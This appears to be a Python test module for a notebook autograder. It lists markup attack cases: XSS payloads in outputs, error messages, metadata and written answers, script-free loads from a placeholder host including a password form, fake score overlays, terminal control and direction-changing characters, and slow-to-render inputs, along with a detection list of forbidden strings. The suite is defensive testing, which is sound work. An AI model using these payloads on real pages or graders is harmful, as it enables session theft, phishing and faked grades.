"""Markup: right answers whose outputs, messages and words try to run or load something in the page of a grader."""

from __future__ import annotations

from tests.attacks.attack import PS1, PS3, Attack, deserved
from tests.attacks.handin import RIGHT_DERIVATIVE, changed, find, hand_in

HOST = "https://attack.invalid"
"""A host that nobody has: nothing in a page may load from it."""

SCRIPT = "<script>gdAttack()</script>"
FORBIDDEN = (
    "<script>gdAttack",
    'onerror="gdAttack',
    "onerror=gdAttack",
    'onload="gdAttack',
    "onload=gdAttack",
    'onclick="gdAttack',
    'ontoggle="gdAttack',
    'href="javascript:gdAttack',
    f'src="{HOST}',
    f"url({HOST}",
    f"<iframe src={HOST}",
    f'action="{HOST}',
    f'<base href="{HOST}',
    f'<link rel="stylesheet" href="{HOST}',
    'http-equiv="refresh',
    "srcdoc=",
    "<svg onload",
    "<foreignObject",
    "<embed",
    "<object data",
    "\u202e",
    "\x1b]",
)
"""What must stand in no page, as it stands here: escaped, it does no harm."""


def _shown(name: str, what: str, cell: str) -> Attack:
    """Show something in a cell of its own."""
    build = hand_in(after={"test-derivative": cell})
    return Attack(name, "markup", PS1, what, build, deserved(PS1), forbidden=FORBIDDEN)


def _html(name: str, what: str, html: str) -> Attack:
    """Show a piece of HTML as HTML, as Markdown, and as text."""
    cell = (
        "from IPython.display import HTML, Markdown\n"
        f"html = {html!r}\ndisplay(HTML(html)), display(Markdown(html)), print(html)\n"
        "display({'text/html': html, 'text/plain': html, 'text/latex': html}, raw=True)"
    )
    return _shown(name, what, cell)


def _written(name: str, what: str, text: str) -> Attack:
    """Write something into the answer that a person grades."""
    build = changed(lambda notebook: find(notebook, "why-a-falling-loss").update(source=text))
    return Attack(name, "markup", PS3, what, build, deserved(PS3), forbidden=FORBIDDEN)


HTML = (
    _html("script", "A script.", SCRIPT),
    _html(
        "script-in-pieces",
        "A script that is one only after a part was taken out.",
        "<scr<script></script>ipt>gdAttack()</script>",
    ),
    _html(
        "script-in-capitals",
        "A script in capitals, with attributes.",
        '<SCRIPT SRC="https://attack.invalid/x.js"></SCRIPT>',
    ),
    _html("end-of-pre", "An end of what the page puts around text.", f"</pre></div></body></html>{SCRIPT}"),
    _html(
        "event-handlers",
        "Event handlers.",
        '<img src=x onerror="gdAttack()"><details open ontoggle="gdAttack()">x</details>',
    ),
    _html("handler-without-quotes", "An event handler without quotes.", "<img/src=x/onerror=gdAttack()>"),
    _html(
        "frame", "A frame.", f'<iframe src={HOST}/></iframe><iframe srcdoc="{SCRIPT.replace(chr(34), "")}"></iframe>'
    ),
    _html("object", "An object and an embedded file.", f'<object data="{HOST}/x"></object><embed src="{HOST}/x">'),
    _html("remote-picture", "A picture that tells who looks at it.", f'<img src="{HOST}/seen.png">'),
    _html(
        "remote-picture-set",
        "A picture by `srcset`, a video and a sound.",
        f'<img srcset="{HOST}/a.png 1x"><video src="{HOST}/v" autoplay></video><audio src="{HOST}/a"></audio>',
    ),
    _html(
        "remote-style",
        "A style that loads.",
        f"<style>@import url({HOST}/x.css); body {{ background: url({HOST}/y) }}</style>",
    ),
    _html(
        "remote-style-of-an-element", "A style of an element that loads.", f'<p style="background: url({HOST}/y)">x</p>'
    ),
    _html(
        "styles-over-the-page",
        "An element that covers the page with a score.",
        '<div style="position:fixed;inset:0;background:white;z-index:9999">Score: 10 / 10</div>',
    ),
    _html("link-to-a-script", "A link that is a script.", '<a href="javascript:gdAttack()">click</a>'),
    _html(
        "link-to-a-script-hidden",
        "Such a link with white space and entities.",
        '<a href="java&#10;script:gdAttack()">click</a>',
    ),
    _html(
        "form",
        "A form that asks for a password.",
        f'<form action="{HOST}"><input name=password><button>Log in</button></form>',
    ),
    _html(
        "base-and-refresh",
        "The page's base and a forwarding.",
        f'<base href="{HOST}/"><meta http-equiv="refresh" content="0;url={HOST}">',
    ),
    _html(
        "vector-picture",
        "An SVG with a script.",
        f'<svg onload="gdAttack()"><foreignObject>{SCRIPT}</foreignObject></svg>',
    ),
    _html(
        "mathematics",
        "MathML that hides a script.",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=gdAttack()&gt;">',
    ),
    _html("comment", "Comments that end early.", f"<!--> {SCRIPT} <!-- --!> {SCRIPT}"),
    _html("ids-of-the-page", "Elements with ids of the page's own.", '<p id="toc"></p><a name="score" id="body"></a>'),
)

TYPES = (
    _shown(
        "javascript",
        "JavaScript as an output.",
        """
        from IPython.display import Javascript
        display(Javascript("gdAttack()"))
        display({"application/javascript": "gdAttack()"}, raw=True)
        """,
    ),
    _shown(
        "svg",
        "SVG as an output.",
        """
        from IPython.display import SVG
        display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="gdAttack()"><script>gdAttack()</script></svg>'))
        """,
    ),
    _shown(
        "widgets",
        "Widgets of Jupyter, and types that only extensions show.",
        """
        for kind in ("application/vnd.jupyter.widget-view+json", "application/vnd.vega.v5+json", "application/pdf"):
            display({kind: {"model_id": "<script>gdAttack()</script>"}, "text/plain": "x"}, raw=True)
        """,
    ),
    _shown(
        "picture-that-is-none",
        "HTML that says that it is a picture.",
        """
        display({"image/png": "PHNjcmlwdD5nZEF0dGFjaygpPC9zY3JpcHQ+"}, raw=True)
        display({"image/jpeg": '"><script>gdAttack()</script>'}, raw=True)
        """,
    ),
    _shown(
        "metadata-of-a-picture",
        "A picture whose size is an attribute with a handler.",
        """
        display({"image/png": "iVBORw0KGgo="}, metadata={"image/png": {"width": '1" onerror="gdAttack()'}}, raw=True)
        """,
    ),
    _shown(
        "latex",
        "LaTeX with links and with HTML.",
        r"""
        from IPython.display import Latex
        display(Latex(r"$\\href{javascript:gdAttack()}{x}$ $\\style{background:url(https://attack.invalid/x)}{x}$"))
        """,
    ),
)

TEXT = (
    _shown(
        "terminal",
        "Control characters of terminals: colours, titles, links, cleared screens.",
        r"""
        print("\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://attack.invalid\x07link\x1b]8;;\x07")
        print("\x1b[2J\x1b[H\x9b31m \x07\x08\x00")
        """,
    ),
    _shown(
        "colours-of-no-terminal",
        "Colours that no terminal has.",
        r"""
        print("\x1b[38;5;999mx \x1b[38;2;1mx \x1b[;;;;mx \x1b[9999999999999999mx \x1b[38mx" + "\x1b[1m" * 10000)
        """,
    ),
    _shown(
        "direction",
        "Characters that turn the direction of writing.",
        r"""
        print("\u202eeslaf si siht\u202c \u2066x\u2069 \u200bzero \ufeff width")
        """,
    ),
    _shown("long-line", "A line of a million characters.", "print('<' * 10**6)"),
    _shown("many-lines", "A hundred thousand lines.", "print('\\n' * 10**5)"),
    _shown("stacked-accents", "Letters with a thousand accents.", r"print(('a' + '\u0301' * 1000) * 100)"),
    _shown(
        "error-message",
        "An error whose message and name are HTML.",
        """
        raise type("<script>gdAttack()</script>", (Exception,), {})("<img src=x onerror=gdAttack()>")
        """,
    ),
    _shown(
        "function-name",
        "A traceback through a function whose name is HTML.",
        """
        exec(compile("def f():\\n    raise ValueError", "<script>gdAttack()</script>", "exec"))
        f.__code__ = f.__code__.replace(co_name="<script>gdAttack()</script>")
        f()
        """,
    ),
    _shown("source", "HTML in the source of a cell.", f"# </code></pre>{SCRIPT}"),
    Attack(
        "message-of-a-verdict",
        "markup",
        PS1,
        "HTML and Markdown in the message of a wrong answer.",
        hand_in(
            {
                "descend": """
            def descend(f, x0, lr, steps):
                raise ValueError('<img src=x onerror="gdAttack()"> [x](javascript:gdAttack()) \\x1b]0;x\\x07 \\u202e')
            """
            }
        ),
        deserved(PS1, "descend"),
        forbidden=FORBIDDEN,
    ),
    Attack(
        "line-of-a-verdict",
        "markup",
        PS1,
        "HTML in the line in which a wrong answer raises.",
        hand_in(
            {
                "descend": """
            def descend(f, x0, lr, steps):
                return 1 / 0  # `</code><script>gdAttack()</script>
            """
            }
        ),
        deserved(PS1, "descend"),
        forbidden=FORBIDDEN,
    ),
    Attack(
        "type-of-an-answer",
        "markup",
        PS1,
        "HTML in the name of the class of what is returned.",
        hand_in(
            {
                "descend": """
            def descend(f, x0, lr, steps):
                return type("<script>gdAttack()</script>", (), {"__module__": "</p><script>gdAttack()</script>"})()
            """
            }
        ),
        deserved(PS1, "descend"),
        forbidden=FORBIDDEN,
    ),
    Attack(
        "oddity",
        "markup",
        PS1,
        "HTML in ids, tags and metadata.",
        changed(
            lambda notebook: [
                cell.update(id=f"{SCRIPT}{n}", attachments={SCRIPT: {"text/html": SCRIPT}})
                for n, cell in enumerate(notebook["cells"])
                if cell["cell_type"] == "markdown"
            ]
        ),
        deserved(PS1),
        forbidden=FORBIDDEN,
    ),
    Attack(
        "raw-html-after-an-answer",
        "markup",
        PS1,
        "A right answer that prints HTML whenever it is called.",
        hand_in({"derivative": RIGHT_DERIVATIVE + f"    print({SCRIPT!r})\n"}),
        deserved(PS1),
        forbidden=FORBIDDEN,
    ),
)

WRITTEN = (
    _written(
        "words-script", "A script in the written answer.", f'It may.\n\n{SCRIPT}\n\n<img src=x onerror="gdAttack()">'
    ),
    _written(
        "words-link",
        "Links that are scripts, in Markdown.",
        "[a](javascript:gdAttack()) <javascript:gdAttack()> [b]: javascript:gdAttack()",
    ),
    _written(
        "words-picture",
        "Pictures from elsewhere, in Markdown.",
        f'![seen]({HOST}/seen.png) <img src="{HOST}/seen.png">',
    ),
    _written(
        "words-score",
        "A heading that looks like the page's own score.",
        '# Score: 20 / 20\n\n<h1 style="color:green">Passed</h1>',
    ),
    _written(
        "words-long",
        "Emphasis nested ten thousand deep, which is slow to read.",
        "*_" * 10_000 + "[" * 10_000 + ">" * 1000,
    ),
    _written(
        "words-formula",
        "Formulas that define and never end.",
        r"$\def\x{\x\x}\x$ $\href{javascript:gdAttack()}{x}$ $$" + r"\frac{" * 1000,
    ),
)

ATTACKS = HTML + TYPES + TEXT + WRITTEN
